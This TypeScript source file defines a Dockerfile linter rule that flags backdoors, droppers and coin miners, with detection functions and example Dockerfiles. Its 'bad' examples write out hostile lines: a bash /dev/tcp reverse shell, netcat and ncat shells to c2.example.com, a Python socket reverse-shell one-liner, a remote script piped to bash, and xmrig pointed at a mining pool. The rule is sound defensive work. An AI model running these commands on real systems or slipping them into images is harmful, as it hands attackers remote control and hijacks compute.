import {
  cover,
  isShell as isShellName,
  rule,
  type Command,
  type Report,
  type Span,
  withoutTrailing,
} from "../../engine/index";
import { download, urlHost } from "../shared/downloads";
import { runs } from "../shared/environment";
import { interpreted } from "../shared/interpreters";
import { remoteScripts } from "../shared/remote-scripts";

export default rule({
  id: "dockerfile/suspicious-command",
  kind: "dockerfile",
  severity: "error",
  principle: "supply-chain",
  summary: "Command that looks like a backdoor, a dropper or a miner",
  why: `Reverse shells, hidden programs that are decoded and run, and coin miners have hardly any honest use in an image. They come
in by a copied snippet, a poisoned template or a stolen account. Find out who added the line and why; treat machines and
credentials that built or ran the image as lost until you know.`,
  refs: ["CWE-506"],
  covers: [],
  fix: "none",
  examples: [
    { bad: "FROM debian:13-slim\nCMD «bash -i >& /dev/tcp/203.0.113.5/4242» 0>&1\n", note: "a reverse shell" },
    {
      bad: 'FROM debian:13-slim\nCMD nc «-e /bin/sh» c2.example.com 4444\nENTRYPOINT ["ncat", «"--exec", "/bin/bash"», "c2.example.com", "4444"]\n',
    },
    { bad: "FROM debian:13-slim\nRUN echo ZWNobyBoaQ== | «base64 -d | sh»\n", note: "a hidden script" },
    {
      bad: 'FROM python:3.14-slim\nRUN python3 -c «\'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0);subprocess.call(["sh"])\'»\n',
    },
    {
      bad: "FROM debian:13-slim\nRUN «curl -s http://203.0.113.5/x.sh | bash»\n",
      also: ["dockerfile/pipefail-missing", "dockerfile/plaintext-download"],
    },
    {
      bad: 'FROM debian:13-slim\nENTRYPOINT [«"/opt/x/xmrig"», "-o", "stratum+tcp://pool.example.com:3333"]\nRUN «chattr +i /etc/cron.d/x»\n',
    },
    {
      good: "FROM debian:13-slim\nHEALTHCHECK CMD timeout 5 bash -c ':> /dev/tcp/127.0.0.1/9000' || exit 1\n",
      note: "a probe of the container itself",
    },
    {
      good: "FROM debian:13-slim\nCMD until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec app\n",
      note: "waits for a neighbour",
    },
    {
      good: "FROM debian:13-slim\nRUN echo $CONF | base64 -d > /etc/app.conf && curl -s http://203.0.113.5/a.conf -o /etc/a.conf\n",
    },
    {
      good: "FROM python:3.14-slim\nHEALTHCHECK CMD python3 -c \"import socket; socket.create_connection(('localhost', 8000))\"\n",
    },
    { good: "FROM debian:13-slim\nRUN nc -z db 5432 && nc -l -p 80 < /a && bash -i -c 'nvm install 24'\n" },
    {
      good: "FROM debian:13-slim\nRUN curl -s http://10.0.0.5/x.sh | bash\n",
      note: "a neighbour: another rule's matter",
    },
  ],
  check: {
    instruction(instruction, report) {
      if (!runs(instruction)) return;
      for (const command of instruction.commands) {
        for (const look of looks) look(command, report);
      }
      for (const script of remoteScripts(instruction.commands)) {
        const hosts = script.source.urls.map(
          (u) => urlHost(u.source.includes("://") ? u.source : `http://${u.source}`) ?? "",
        );
        const host = hosts.find(isPublicAddress);
        if (host === undefined) continue;
        report(
          script.at,
          `${script.runner.name} runs what ${script.source.command.name} gets from the bare address ${host}`,
        );
      }
    },
  },
});

type Look = (command: Command, report: Report) => void;

const octets = (host: string): number[] | undefined =>
  /^\d{1,3}(?:\.\d{1,3}){3}$/.test(host) ? host.split(".").map(Number) : undefined;

/** An IPv4 address that is neither this machine's nor of a private network (RFC 1918, 3927, 6598). */
function isPublicAddress(host: string): boolean {
  const [a = 0, b = 0] = octets(host) ?? [];
  if (octets(host) === undefined || a === 0 || a === 10 || a === 127) return false;
  return (
    !(a === 192 && b === 168) &&
    !(a === 172 && b >= 16 && b < 32) &&
    !(a === 169 && b === 254) &&
    !(a === 100 && b >= 64 && b < 128)
  );
}

const socketPath = /\/dev\/(?:tcp|udp)\/([^/\s"']+)\/[^\s"']*/;
const local = /^(?:localhost|127\.\d+\.\d+\.\d+|::1|0\.0\.0\.0)$/;

/** A shell bound to `/dev/tcp`, or anything bound to a public address by it; probes of neighbours are honest. */
function reverseShell(command: Command, report: Report): void {
  for (const redirect of command.redirects) {
    // `>& /dev/tcp/host/1 0>&1`: the parser takes the 0 for the target, and the path for a part of the operator.
    const match = socketPath.exec(redirect.target?.source ?? "") ?? socketPath.exec(redirect.operator);
    const host = match?.[1];
    if (match === null || host === undefined || local.test(host)) continue;
    const isShell = interpreted(command)?.from === "input" && isShellName(command.name);
    if (!isShell && !isPublicAddress(host)) continue;
    const path =
      match.input === redirect.operator
        ? { start: redirect.start, end: redirect.start + match.index + match[0].length }
        : redirect;
    report(
      cover(command, path),
      `${command.name === "" || command.name === "exec" ? "The shell" : command.name} is bound to a network connection to ${host}`,
    );
  }
}

const shellPath = /^(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|a)?sh(?:\s|$)|cmd(?:\.exe)?$/;

function netcat(command: Command, report: Report): void {
  if (command.name === "socat") {
    const runsShell = command.args.find((a) =>
      /^(?:exec|system):["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z)?sh\b/i.test(a.source),
    );
    if (runsShell !== undefined && command.args.some((a) => /^(?:tcp|openssl|udp)/i.test(a.source))) {
      report(runsShell, "socat gives a shell to whoever is at the other end of the connection");
    }
    return;
  }
  if (!/^(?:nc|ncat|netcat)(?:\.\w+)?$/.test(command.name)) return;
  const { args } = command;
  const index = args.findIndex(
    (a, i) => /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(a.source) && shellPath.test(args[i + 1]?.source ?? ""),
  );
  const flag = args[index];
  const program = args[index + 1];
  if (flag !== undefined && program !== undefined)
    report(cover(flag, program), `${command.name} gives a shell to whoever is at the other end of the connection`);
  const feeder = command.upstream;
  if (feeder?.args.some((a) => a.source === "-i") === true && interpreted(feeder)?.from === "input") {
    report(cover(feeder, command), `${feeder.name} is bound to a network connection by ${command.name}`);
  }
}

const decodes = (command: Command): boolean =>
  (/^(?:base64|base32|openssl)$/.test(command.name) &&
    command.args.some((a) => /^(?:-d|-D|--decode|-[a-zA-Z]*d)$/.test(a.source)) &&
    (command.name !== "openssl" || /^(?:base64|enc)$/.test(command.subcommand ?? ""))) ||
  (command.name === "xxd" && command.args.some((a) => /^-[a-z]*r/.test(a.source)));

function decoded(command: Command, report: Report): void {
  const program = interpreted(command);
  if (program === undefined) return;
  const message = `${command.name} runs a hidden text that is decoded on the way`;
  if (program.from === "input") {
    const decoder = command.pipeline.slice(0, command.pipeline.indexOf(command)).find(decodes);
    if (decoder !== undefined) report(cover(decoder, command), message);
    return;
  }
  if (!/^(?:\$\(|`|<\()/.test(program.word.source)) return;
  if (program.word.substitutions.some(decodes)) report(cover(command.program ?? command, program.word), message);
}

/** A network connection and a shell in one line of a script language. */
const inline: Readonly<Record<string, readonly [RegExp, RegExp]>> = {
  python: [/\bsocket\b/, /\bdup2\b|pty\.spawn|subprocess|os\.system/],
  perl: [/\bSocket\b/, /\bexec\b|\bsystem\b/],
  ruby: [/\bTCPSocket\b/, /\bexec\b|\bspawn\b|\bpopen\b|\/bin\/(?:ba)?sh/],
  php: [/\bfsockopen\b/, /\b(?:exec|shell_exec|system|proc_open|passthru|popen)\b/],
  node: [/\bnet\b/, /child_process/],
  lua: [/\bsocket\b/, /\bos\.execute\b|io\.popen/],
};

function inlineSocket(command: Command, report: Report): void {
  const program = interpreted(command);
  if (program?.from !== "text") return;
  const name = withoutTrailing(command.name, ".0123456789");
  const [connects, starts] = (Object.hasOwn(inline, name) ? inline[name] : undefined) ?? [];
  if (connects === undefined || starts === undefined) return;
  const text = program.word.source;
  if (connects.test(text) && starts.test(text) && /connect|fsockopen|TCPSocket|sockaddr_in/i.test(text)) {
    report(program.word, `${command.name} binds a shell to a network connection`);
  }
}

const miners =
  /^(?:xmrig|minerd|cpuminer(?:-\w+)?|xmr-stak(?:-\w+)?|ethminer|nanominer|lolminer|phoenixminer|t-rex-miner|kinsing|kdevtmpfsi)$/i;

const mayMine = /^stratum\+|xmrig|minerd|cpuminer|xmr-stak|kinsing|kdevtmpfsi/i;

function miner(command: Command, report: Report): void {
  const say = (at: Span, what: string): void => report(at, `${what} mines crypto coins`);
  if (command.program !== undefined && miners.test(command.name)) return say(command.program, command.name);
  if (!command.args.some((a) => mayMine.test(a.source))) return;
  const pool = command.args.find((a) => /^stratum\+(?:tcp|ssl|tls)2?:\/\//i.test(a.source));
  if (pool !== undefined && command.name !== "echo")
    return say(pool, command.name === "" ? "The program" : command.name);
  for (const url of download(command)?.urls ?? []) {
    if (/\/(?:xmrig|minerd|cpuminer|xmr-stak|kinsing|kdevtmpfsi)[\w.-]*(?:\/|$)/i.test(url.source))
      say(url, "What is downloaded here");
  }
}

function lockedCron(command: Command, report: Report): void {
  if (command.name !== "chattr" || !command.args.some((a) => /^\+[a-zA-Z]*i/.test(a.source))) return;
  if (command.args.some((a) => /cron/.test(a.source))) report(command, "chattr locks a cron file against removal");
}

const looks: readonly Look[] = [reverseShell, netcat, decoded, inlineSocket, miner, lockedCron];
